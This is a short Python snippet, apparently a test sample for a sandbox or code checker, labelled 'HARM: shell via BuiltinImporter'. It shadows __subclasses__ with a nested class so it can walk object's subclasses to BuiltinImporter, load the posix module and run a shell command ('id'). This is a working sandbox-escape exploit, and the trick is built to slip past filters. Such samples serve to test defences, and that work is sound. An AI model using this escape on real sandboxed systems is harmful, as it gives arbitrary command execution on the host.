# HARM: shell via BuiltinImporter | TRICK: nested class named __subclasses__ in Base body; Base.__subclasses__() instantiates it, __iter__ yields object
class Base:
    class __subclasses__:
        def __iter__(self):
            yield object
class A(Base): pass
for top in Base.__subclasses__():
    for k in top.__subclasses__():
        if k.__name__ == "BuiltinImporter":
            k.load_module("posix").system("id")
